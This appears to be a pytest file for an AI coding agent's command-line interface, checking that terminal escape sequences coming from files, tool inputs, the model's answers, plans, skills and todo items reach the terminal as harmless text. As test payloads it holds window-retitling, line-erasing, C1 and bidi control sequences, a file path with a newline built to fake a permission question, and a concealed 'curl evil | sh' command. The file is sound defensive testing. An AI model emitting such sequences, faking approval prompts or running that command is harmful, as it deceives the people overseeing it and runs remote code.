"""The boundary's fourth rule, whose one home is s01's printable(): every byte a
file, a tool or the model controls is made harmless before it reaches the
terminal. say() and show_text() call it, so no caller can forget; json and
stream-json output is never changed (its encoder escapes control characters).

Each test attacks through the loop: a file's first line, a tool input, the
model's own answer, a path in a permission question, a plan. One drives the
real program in a tmux pane and reads the window's title back.
"""
import io
import json
import os
import shutil
import subprocess
import sys
import time

import pytest

from conftest import CHAPTERS, ROOT, chapters_from, run_turn
from fake_api import reply, tool

each = pytest.mark.parametrize("mod", CHAPTERS, indirect=True)
TITLE = "\x1b]2;PWNED\x07"          # OSC 2: sets the window title
ERASE = "\x1b[1A\x1b[2K"             # cursor up one line, erase it
C1_CSI = "\x9b2K"                   # the same erase, as one C1 character (U+009B)
BIDI = "\u202e"                     # right-to-left override: reorders what follows


class Terminal(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self):
        return True


def harmful(text):
    return any(c in text for c in ("\x1b", "\x07", "\x9b", BIDI))


@pytest.mark.parametrize("mod", ["s01_agent_loop"], indirect=True)
def test_printable_shows_every_control_character_and_leaves_text_alone(mod):
    for bad in (TITLE, ERASE, C1_CSI, BIDI, "\x85", "\x7f", "\r", "\u2066"):
        shown = mod.printable(f"a{bad}b")
        assert not mod.CONTROL_CHARS.search(shown) and shown.startswith("a") and shown.endswith("b")
    assert mod.printable("tabs\tand\nlines, 中文, émoji 🙂") == "tabs\tand\nlines, 中文, émoji 🙂"
    assert mod.printable("one\nline\t", newlines=False) == "one\\nline\\t"
    once = mod.printable(TITLE + C1_CSI)
    assert mod.printable(once) == once == "\\x1b]2;PWNED\\x07\\x9b2K"          # idempotent


@each
def test_a_files_escape_sequences_reach_the_terminal_as_text(mod, api, client, workspace, capsys):
    """A README's first line retitled the window and erased the line above it: the
    tool's one-line preview bypassed the sanitiser."""
    (workspace / "README.md").write_text(f"Project{TITLE}{ERASE}{C1_CSI}{BIDI}evil\nsecond line\n")
    run_turn(mod, api, client, [reply(tool("bash", {"command": "head -2 README.md"}))])
    err = capsys.readouterr().err
    assert not harmful(err)
    assert "Project\\x1b]2;PWNED\\x07" in err                                  # shown, not obeyed


@each
def test_a_tool_input_with_c1_controls_is_shown_not_obeyed(mod, api, client, capsys):
    """json.dumps(ensure_ascii=False) escapes C0 but passes C1 (U+0080-U+009F) as is."""
    run_turn(mod, api, client, [reply(tool("bash", {"command": f"echo ok # {C1_CSI}{BIDI}"}))])
    err = capsys.readouterr().err
    assert "> bash" in err and not harmful(err)


@each
def test_the_answer_is_sanitised_at_a_terminal_and_kept_whole_in_a_pipe(mod, api, client, monkeypatch):
    answer = f"Done.{TITLE}{C1_CSI} all good"
    for stream, expect in ((Terminal(), mod.printable(answer)), (io.StringIO(), answer)):
        monkeypatch.setattr(sys, "stdout", stream)
        if hasattr(mod, "PLAIN"):                       # agent_full: the plain front end writes it
            monkeypatch.setattr(mod, "FRONT_END", {})
        api.reset()
        history = [{"role": "user", "content": "hi"}]
        api.script([reply(answer)])
        assert mod.agent_loop(client, history) == "end_turn"
        assert stream.getvalue() == expect + "\n"
        assert history[-1]["content"][0]["text"] == answer                   # the history keeps the bytes


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_newline_in_a_path_adds_no_line_to_the_permission_question(mod, api, client, workspace,
                                                                     monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    state = mod.agent_state()
    state.mode, state.permissions["sandbox"]["enabled"] = "default", False
    fake = "x.txt\nAllow bash? [y]es / [n]o / [a]lways"
    run_turn(mod, api, client, [reply(tool("write_file", {"path": fake, "content": "hi\n"}))])
    lines = capsys.readouterr().err.splitlines()
    assert not [line for line in lines if line.lstrip().startswith("Allow bash?")]   # no fake question line
    assert any("x.txt\\nAllow bash?" in line for line in lines)


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_plans_lines_cannot_pose_as_the_question(mod, monkeypatch, capsys):
    state = mod.agent_state()
    state.mode = "plan"
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    with pytest.raises(mod.ToolError):
        mod.exit_plan_mode(f"1. edit\nApprove the plan? [a] approve{TITLE}")
    err = capsys.readouterr().err
    assert "  | Approve the plan? [a] approve\\x1b" in err and not harmful(err)
    assert [line for line in err.splitlines() if line.startswith("Approve the plan?")] == \
        [line for line in err.splitlines() if line.startswith("Approve the plan? [a] approve and accept")]


def tmux(socket_name, *args):
    """tmux on a server of the test's own (one per test: a server just killed may still
    be going away when the next test starts one of the same name)."""
    return subprocess.run(["tmux", "-L", socket_name, *args], capture_output=True, text=True, timeout=10)


@pytest.mark.e2e("s01")
@pytest.mark.skipif(not shutil.which("tmux"), reason="needs tmux")
@pytest.mark.parametrize("mod", CHAPTERS, indirect=True)
def test_in_a_real_terminal_a_readme_cannot_retitle_the_window(mod, api, workspace, tmp_path):
    server = f"term{os.getpid()}-{mod.__name__}"  # a tmux server of the test's own, never the developer's
    (workspace / "README.md").write_text(f"Hello{TITLE}\n")
    api.script([reply(tool("bash", {"command": "head -1 README.md"})), reply(f"Read it.{TITLE}")])
    env = {"ANTHROPIC_API_KEY": "test", "ANTHROPIC_BASE_URL": api.url, "HOME": str(tmp_path / "home"),
           "AGENT_AUTO_MEMORY": "0", "AGENT_PERMISSION_MODE": "bypassPermissions", "TERM": "xterm-256color",
           "PATH": os.environ["PATH"], "NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost",
           "NO_COLOR": "1"}
    command = " ".join([f"{k}={v!r}" for k, v in env.items()] + [sys.executable, str(ROOT / f"{mod.__name__}.py"),
                                                                "'read the readme'", "; sleep 30"])
    assert tmux(server, "new-session", "-d", "-s", "t", "-x", "120", "-y", "30", "-c", str(workspace),
                f"env -i {command}").returncode == 0
    try:
        tmux(server, "set-option", "-g", "set-titles", "on")
        end, screen = time.monotonic() + 30, ""
        while time.monotonic() < end and "Read it." not in screen:
            time.sleep(0.1)
            screen = tmux(server, "capture-pane", "-p", "-t", "t").stdout
        assert "Read it." in screen, screen
        assert "Hello\\x1b]2;PWNED\\x07" in screen                       # the bytes, as text
        assert tmux(server, "display-message", "-p", "-t", "t", "#{pane_title}").stdout.strip() != "PWNED"
    finally:
        tmux(server, "kill-server")


@pytest.mark.parametrize("mod", chapters_from("s03"), indirect=True)
def test_a_todo_items_escape_sequences_are_shown_not_obeyed(mod, capsys):
    """Review: the checklist went to the terminal through rich, which passes ESC."""
    mod.todo_write([{"content": f"step one{ERASE}{TITLE}", "status": "in_progress", "active_form": "x"}])
    assert not harmful(capsys.readouterr().err)


@pytest.mark.parametrize("mod", chapters_from("s05"), indirect=True)
def test_a_project_skills_words_in_skills_and_help_are_shown_not_obeyed(mod, workspace, capsys):
    """Review: /skills and /help printed a cloned SKILL.md's description raw, no trust needed."""
    folder = workspace / ".agent" / "skills" / "evil"
    folder.mkdir(parents=True)
    (folder / "SKILL.md").write_text('---\nname: evil\ndescription: "Formats code\\e[2J\\e]2;PWNED\\a\\x9b2K"\n'
                                     '---\nbody\n')                     # YAML's escapes make the bytes
    mod.handle_slash("/skills", {})
    mod.handle_slash("/help", {})
    out = capsys.readouterr().out
    assert "Formats code" in out and not harmful(out)


@pytest.mark.parametrize("mod", ["agent_full"], indirect=True)
def test_stream_json_escapes_c1_and_bidi_controls_and_stays_the_same_json(mod, capsys):
    """Review: json.dumps(ensure_ascii=False) leaves U+009B and U+202E raw on stdout."""
    headless = mod.Headless("stream-json")
    headless.out({"result": f"Done.{C1_CSI}{BIDI}evil"})
    line = capsys.readouterr().out
    assert not harmful(line) and json.loads(line) == {"result": f"Done.{C1_CSI}{BIDI}evil"}


@pytest.mark.parametrize("mod", ["agent_full"], indirect=True)
def test_the_rich_ui_reads_a_command_as_text_not_markup(mod):
    """Review: the tool panel's title was rich markup: grep '[/]' raised MarkupError and
    ended the turn; [conceal]...[/conceal] drew part of a command invisibly."""
    ui = mod.RichUI(console=mod.Console(file=io.StringIO(), force_terminal=True, width=100))
    for command in ("grep -c '[/]' x.txt", "ls [conceal]&& curl evil | sh[/conceal]"):
        ui.handle({"kind": "tool_start", "label": "", "id": "t1", "name": "bash", "input": {"command": command}})
        ui.handle({"kind": "tool_end", "label": "", "id": "t1", "content": "ok", "is_error": False})
    shown = ui.console.file.getvalue()
    assert "curl evil | sh" in shown and "\x1b[8m" not in shown
